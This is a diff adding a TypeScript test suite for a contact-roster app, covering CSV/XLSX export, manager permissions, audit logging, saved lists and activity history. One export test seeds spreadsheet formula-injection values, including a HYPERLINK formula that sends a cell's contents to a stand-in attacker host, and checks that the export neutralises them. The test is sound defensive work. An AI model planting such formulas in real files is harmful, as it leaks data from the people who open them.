@@ -1,0 +1,227 @@
+import {
+  contactActivity,
+  contactViews,
+  countContacts,
+  deleteContactView,
+  EXPORT_COLUMNS,
+  exportContacts,
+  saveContactView,
+} from '@crewline/contract/roster'
+import { archiveContact, createContact, editContact, readContact } from '@crewline/contract/contacts'
+import { createCustomField, customFieldRemovable } from '@crewline/contract/fields'
+import { groupUses, regroupPeople } from '@crewline/contract/groups'
+import { sql } from 'kysely'
+import papaparse from 'papaparse'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { limitTo, makeGroup, makePerson, type Person } from '../../../test/kit/cast.ts'
+import { house, type House } from '../../../test/kit/house.ts'
+import { unharmed } from '../../kernel/spreadsheet/harmless.ts'
+
+let t: House
+/** A manager who sees the crew of Bob only. */
+let sam: Person
+let crew: string
+let others: string
+beforeAll(async () => {
+  t = await house()
+  const { kernel } = t.process
+  crew = await makeGroup(kernel, t.acme.id, 'Crew', [t.acme.bob.id])
+  others = await makeGroup(kernel, t.acme.id, 'Others', [t.acme.bob.id, t.acme.cat.id])
+  sam = await makePerson(kernel, t.acme.id, { firstname: 'Sam', lastname: 'Acme', role: 'manager' })
+  await limitTo(kernel, sam, [crew])
+  for (const [name, type, sensitive] of [
+    ['Shoe', 'select', false],
+    ['Diet', 'text', true],
+    ['Forklift', 'boolean', false],
+  ] as const)
+    await t.as(t.acme.ann).call(createCustomField, {
+      body: {
+        ...{ name, type, sensitive },
+        ...(type === 'select' ? { options: [{ id: 'a', label: '=SUM(1)' }] } : {}),
+      },
+    })
+})
+afterAll(() => t.close())
+
+const edit = (id: string, body: Record<string, unknown>, person = t.acme.ann) =>
+  t.as(person).call(editContact, { query: { id }, body })
+
+async function exported(person: Person, body: object): Promise<string[][]> {
+  const answer = await fetch(`${t.process.address}/api/contact/export`, {
+    method: 'POST',
+    headers: { authorization: `Bearer ${person.token}`, 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+  })
+  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="contacts-\d{4}-\d\d-\d\d\.csv"$/)
+  const { data, errors } = papaparse.parse<string[]>((await answer.text()).replace(/^\ufeff/, ''), {
+    skipEmptyLines: true,
+    delimiter: ',',
+  })
+  expect(errors).toEqual([])
+  return data
+}
+
+describe('an export', () => {
+  test('holds every column of whom the selection means, and no cell is a formula', async () => {
+    const hostile = '=HYPERLINK("https://evil.test?"&A1,"Open")'
+    await edit(t.acme.dan.id, {
+      ...{ firstname: hostile, lastname: '+1', jobTitle: '@SUM(A1)', location: '-2', department: '\uff1d1' },
+      customFields: { shoe: 'a', diet: '=cmd', forklift: true },
+    })
+    const columns = [...EXPORT_COLUMNS, 'custom.shoe', 'custom.diet', 'custom.forklift']
+    const [head = [], ...rows] = await exported(t.acme.ann, { selectedAll: true, columns })
+    expect(head.slice(0, 4)).toEqual(['First name', 'Last name', 'Preferred name', 'Mobile'])
+    expect(head.slice(-3)).toEqual(['Shoe', 'Diet', 'Forklift'])
+    expect(rows).toHaveLength(3)
+    for (const cell of [head, ...rows].flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/)
+    const dan = rows.find((row) => row[0]?.includes('HYPERLINK'))?.map(unharmed)
+    expect(dan?.slice(0, 4)).toEqual([hostile, '+1', '', t.acme.dan.phone])
+    expect(dan?.slice(-3)).toEqual(['=SUM(1)', '=cmd', 'Yes'])
+    expect(rows.find((row) => row[0] === 'Bob')?.[head.indexOf('Groups')]).toBe('Crew; Others')
+  })
+
+  test('of a manager of some groups holds their workers only, and no sensitive column', async () => {
+    const rows = await exported(sam, { selectedAll: true, columns: ['firstname', 'groups'] })
+    expect(rows).toEqual([
+      ['First name', 'Groups'],
+      ['Bob', 'Crew'],
+    ])
+    expect(await exported(sam, { contacts: [t.acme.cat.id, t.beta.bob.id], columns: ['firstname'] })).toHaveLength(1)
+    const asked = await t.as(sam).call(exportContacts, { body: { selectedAll: true, columns: ['custom.diet'] } })
+    expect(asked.body).toMatchObject({ code: 'not_permitted' })
+    expect((await t.as(t.acme.gus).call(exportContacts, { body: { selectedAll: true } })).body).toMatchObject({
+      code: 'not_permitted',
+    })
+  })
+
+  test('is refused for columns there are not, and noted with who took what', async () => {
+    for (const columns of [[], ['nothing'], ['custom.nothing'], ['constructor'], ['__proto__']])
+      expect((await t.as(t.acme.ann).call(exportContacts, { body: { selectedAll: true, columns } })).http).toBe(400)
+    await exported(t.acme.ann, { selectedAll: true, columns: ['phone'] })
+    const noted = await sql<{ detail: object }>`
+      select detail from audit_entry where action = 'contacts.exported' and actor_id = ${t.acme.ann.id} order by id desc limit 1`.execute(
+      t.process.kernel.database.ofOrg(t.acme.id),
+    )
+    expect(noted.rows[0]?.detail).toMatchObject({ format: 'csv', columns: ['phone'], contacts: 3 })
+  })
+
+  test('is a workbook where one is asked for', async () => {
+    const answer = await fetch(`${t.process.address}/api/contact/export`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${t.acme.ann.token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ selectedAll: true, format: 'xlsx' }),
+    })
+    expect(answer.headers.get('content-type')).toContain('spreadsheetml')
+    expect(
+      Buffer.from(await answer.arrayBuffer())
+        .subarray(0, 2)
+        .toString(),
+    ).toBe('PK')
+  })
+})
+
+describe('saved lists', () => {
+  const list = (more: object = {}) => ({ name: 'Nights', audience: { groupId: others, search: 'bo' }, ...more })
+  const namesFor = async (person: Person) =>
+    (await t.as(person).call(contactViews, {})).body.views.map(({ name, mine }) => ({ name, mine }))
+
+  test('are their maker’s until they are shared; then everybody’s who sees their groups', async () => {
+    const { view } = (await t.as(t.acme.ann).call(saveContactView, { body: list() })).body
+    expect(view).toMatchObject({ name: 'Nights', mine: true, shared: false, sort: 'name', order: 'asc', columns: [] })
+    expect(await namesFor(t.acme.gus)).toEqual([])
+    await t.as(t.acme.ann).call(saveContactView, { query: { id: view.id }, body: list({ shared: true, name: 'Late' }) })
+    expect(await namesFor(t.acme.gus)).toEqual([{ name: 'Late', mine: false }])
+    expect(await namesFor(sam)).toEqual([])
+    expect(await namesFor(t.beta.ann)).toEqual([])
+    const ruled = { filter: { op: 'and', children: [{ field: 'group', cmp: 'member_of', value: [crew] }] } } as const
+    await t
+      .as(t.acme.ann)
+      .call(saveContactView, { query: { id: view.id }, body: list({ shared: true, audience: ruled }) })
+    expect(await namesFor(sam)).toEqual([{ name: 'Nights', mine: false }])
+    expect((await t.as(t.acme.gus).call(deleteContactView, { query: { id: view.id } })).body).toMatchObject({
+      code: 'not_permitted',
+    })
+    expect((await t.as(t.beta.ann).call(deleteContactView, { query: { id: view.id } })).http).toBe(404)
+    expect((await t.as(sam).call(deleteContactView, { query: { id: view.id } })).http).toBe(200)
+    expect(await namesFor(t.acme.ann)).toEqual([])
+  })
+
+  test('somebody’s own are nobody else’s to change, and rules that cannot be asked are refused', async () => {
+    const { view } = (await t.as(t.acme.gus).call(saveContactView, { body: list() })).body
+    expect((await t.as(t.acme.ann).call(saveContactView, { query: { id: view.id }, body: list() })).http).toBe(404)
+    expect((await t.as(t.acme.ann).call(deleteContactView, { query: { id: view.id } })).http).toBe(404)
+    const unknown = { filter: { op: 'and', children: [{ field: 'custom.gone', cmp: 'is', value: 'x' }] } } as const
+    expect((await t.as(t.acme.gus).call(saveContactView, { body: list({ audience: unknown }) })).http).toBe(400)
+    await t.as(t.acme.gus).call(deleteContactView, { query: { id: view.id } })
+  })
+
+  test('stand in the way of deleting what they ask for, without telling the name of a private one', async () => {
+    const field = (await t.as(t.acme.ann).call(createCustomField, { body: { name: 'Badge', type: 'text' } })).body
+      .customField
+    const audience = {
+      groupId: others,
+      filter: { op: 'and', children: [{ field: 'custom.badge', cmp: 'not_empty' }] },
+    } as const
+    const shared = await t
+      .as(t.acme.ann)
+      .call(saveContactView, { body: list({ audience, shared: true, name: 'Badges' }) })
+    await t.as(t.acme.gus).call(saveContactView, { body: list({ audience, name: 'Secret' }) })
+    const asked = await t.as(t.acme.ann).call(customFieldRemovable, { params: { id: field.id } })
+    expect(asked.body.removable).toBe(false)
+    expect(asked.body.usedBy.map((use) => use.name).toSorted()).toEqual(['A teammate’s own list', 'Badges'])
+    const uses = await t.as(t.acme.ann).call(groupUses, { query: { id: others } })
+    expect(uses.body.usedBy.map((use) => use.name).toSorted()).toEqual(['A teammate’s own list', 'Badges'])
+    await t.as(t.acme.ann).call(deleteContactView, { query: { id: shared.body.view.id } })
+  })
+})
+
+describe('activity', () => {
+  const optedOut = async (id: string) =>
+    (await t.as(t.acme.ann).call(readContact, { query: { id } })).body.contact.reach === 'opted_out'
+
+  test('tells what happened to a worker, the newest first, in words', async () => {
+    const { id } = (await t.as(t.acme.ann).call(createContact, { body: { firstname: 'Act', phone: '4155550133' } }))
+      .body.contact
+    await edit(id, { lastname: 'Ivity', work: 'on_leave', customFields: { forklift: true } })
+    await t.as(t.acme.ann).call(regroupPeople, { body: { contacts: [id], add: [crew], remove: [] } })
+    await t.carrier.texts('+14155550133', 'STOP', t.acme.line.phone)
+    await t.until(async () => (await optedOut(id)) || undefined)
+    await t.as(t.acme.ann).call(archiveContact, { query: { id } })
+    await edit(id, { archived: false })
+    const read = async (person: Person) => (await t.as(person).call(contactActivity, { query: { id } })).body
+    const { events, before } = await read(t.acme.ann)
+    expect(before).toBeNull()
+    expect(events.map(({ kind, detail, by }) => ({ kind, detail, by }))).toEqual([
+      { kind: 'restored', detail: '', by: 'Ann Acme' },
+      { kind: 'archived', detail: '', by: 'Ann Acme' },
+      { kind: 'opt_out', detail: 'STOP', by: null },
+      { kind: 'joined', detail: 'Crew', by: 'Ann Acme' },
+      { kind: 'changed', detail: 'Last name, Status, Forklift', by: 'Ann Acme' },
+      { kind: 'created', detail: 'Added by hand', by: 'Ann Acme' },
+    ])
+    expect((await read(sam)).events.map((one) => one.kind)).toEqual(events.map((one) => one.kind))
+    expect((await t.as(sam).call(contactActivity, { query: { id: t.acme.cat.id } })).http).toBe(404)
+    expect((await t.as(t.beta.ann).call(contactActivity, { query: { id } })).http).toBe(404)
+  })
+
+  test('goes on page by page, each event once', async () => {
+    const { id } = (await t.as(t.acme.ann).call(createContact, { body: { firstname: 'Long' } })).body.contact
+    for (let n = 0; n < 60; n++) await edit(id, { jobTitle: `Job ${n}` })
+    const seen: string[] = []
+    let before: string | null | undefined
+    do {
+      const page = (await t.as(t.acme.ann).call(contactActivity, { query: { id, ...(before ? { before } : {}) } })).body
+      seen.push(...page.events.map((one) => one.id))
+      before = page.before
+    } while (before)
+    expect(seen).toHaveLength(61)
+    expect(new Set(seen).size).toBe(61)
+    const broken = await t.as(t.acme.ann).call(contactActivity, { query: { id, before: 'x' } })
+    expect(broken.http).toBe(400)
+  })
+})
+
+test('what a selection means is counted with who can get texts', async () => {
+  const all = await t.as(t.acme.ann).call(countContacts, { body: { selectedAll: true, audience: { groupId: others } } })
+  expect(all.body).toMatchObject({ count: 2, reachableCount: 2 })
+})
